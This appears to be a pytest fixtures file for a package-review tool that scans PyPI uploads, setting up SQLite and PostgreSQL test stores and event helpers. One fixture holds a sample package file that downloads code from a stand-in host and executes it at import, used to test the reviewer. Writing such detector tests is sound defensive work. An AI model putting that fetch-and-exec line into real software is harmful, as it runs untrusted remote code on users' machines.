"""The store over both databases; PostgreSQL at PRATIQUE_TEST_POSTGRES, by default on the loopback interface."""

from __future__ import annotations

import os
import secrets
import shutil

import pytest
from sqlalchemy import create_engine, make_url, text
from sqlalchemy.exc import OperationalError

from pratique.model import Artifact, Event, Package
from pratique.pipeline import review_files
from pratique.store import Store, open_store
from pratique.store.tables import metadata
from pratique.store.vault import open_vault

ADDRESS = os.environ.get("PRATIQUE_TEST_POSTGRES", "postgresql+psycopg://postgres@127.0.0.1:5432/postgres")
IN_CI = os.environ.get("CI") == "true"


@pytest.fixture(scope="session")
def postgresql():
    """A database of our own on a PostgreSQL server; skips where there is none, but not in CI."""
    admin = create_engine(ADDRESS, isolation_level="AUTOCOMMIT", connect_args={"connect_timeout": 5})
    name = f"pratique_{secrets.token_hex(4)}"
    try:
        with admin.connect() as connection:
            connection.execute(text(f"CREATE DATABASE {name}"))
    except OperationalError as error:
        why = f"no PostgreSQL at {make_url(ADDRESS).host}:{make_url(ADDRESS).port} ({error.orig})"
        pytest.fail(why) if IN_CI else pytest.skip(why)
    yield make_url(ADDRESS).set(database=name, drivername="postgresql").render_as_string(hide_password=False)
    with admin.connect() as connection:
        connection.execute(text(f"DROP DATABASE {name} WITH (FORCE)"))
    admin.dispose()


@pytest.fixture(scope="session")
def layout(tmp_path_factory):
    """An SQLite file at today's layout, to be copied."""
    place = tmp_path_factory.mktemp("layout") / "a.sqlite"
    made = open_store(str(place))
    with made.engine.connect() as connection:
        connection.exec_driver_sql("COMMIT")
        connection.exec_driver_sql("PRAGMA wal_checkpoint(truncate)")
    made.close()
    return place


@pytest.fixture(scope="session")
def fleet(postgresql, tmp_path_factory):
    """A store on PostgreSQL, for all tests of a run."""
    made = open_store(postgresql, str(tmp_path_factory.mktemp("fleet")))
    with made.write() as connection:
        connection.execute(text(f"ALTER DATABASE {made.engine.url.database} SET synchronous_commit = off"))
    made.engine.dispose()
    yield made
    made.close()


@pytest.fixture(params=["sqlite", "postgresql"])
def store(request, tmp_path):
    """An empty store."""
    if request.param == "sqlite":
        shutil.copy(request.getfixturevalue("layout"), tmp_path / "a.sqlite")
        made = open_store(str(tmp_path / "a.sqlite"))
        yield made
        made.close()
    else:
        made = request.getfixturevalue("fleet")
        yield Store(made.engine, open_vault(str(tmp_path / "vault")), made.url)
        _empty(made.engine)


def _empty(engine):
    """Take every row away, which only the owner of the tables can."""
    with engine.begin() as connection:
        connection.execute(text("SET LOCAL session_replication_role = replica"))
        for table in reversed(metadata.sorted_tables):
            connection.execute(table.delete())
            if "id" in table.c:
                connection.execute(text(f"ALTER SEQUENCE {table.name}_id_seq RESTART"))


def upload(serial: int, name: str = "acme", version: str = "1.0", filename: str = "", at: float = 0.0) -> Event:
    """Return the event of a file."""
    return Event(
        ecosystem="pypi", cursor=serial, kind="upload", name=name, version=version,
        filename=filename or f"{name}-{version}.tar.gz", action=f"add source file {filename}", at=at or float(serial),
    )  # fmt: skip


def event(serial: int, kind: str, name: str = "acme", version: str = "", filename: str = "") -> Event:
    """Return another event."""
    return Event(
        ecosystem="pypi", cursor=serial, kind=kind, name=name, version=version, filename=filename, at=float(serial)
    )


@pytest.fixture
def feed_of():
    """Make events without importing this file."""
    return upload, event


@pytest.fixture(scope="session")
def a_review():
    """The review of a small package that runs what it downloads at import, with an artifact of its own."""
    found = review_files({"acme/__init__.py": b"import requests\nexec(requests.get('https://a.invalid').text)"})
    artifact = Artifact(
        package=Package(ecosystem="pypi", name="acme", version="1.0"), filename="acme-1.0.tar.gz", kind="sdist",
        sha256="ab" * 32,
    )  # fmt: skip
    import msgspec

    return msgspec.structs.replace(found, artifact=artifact)
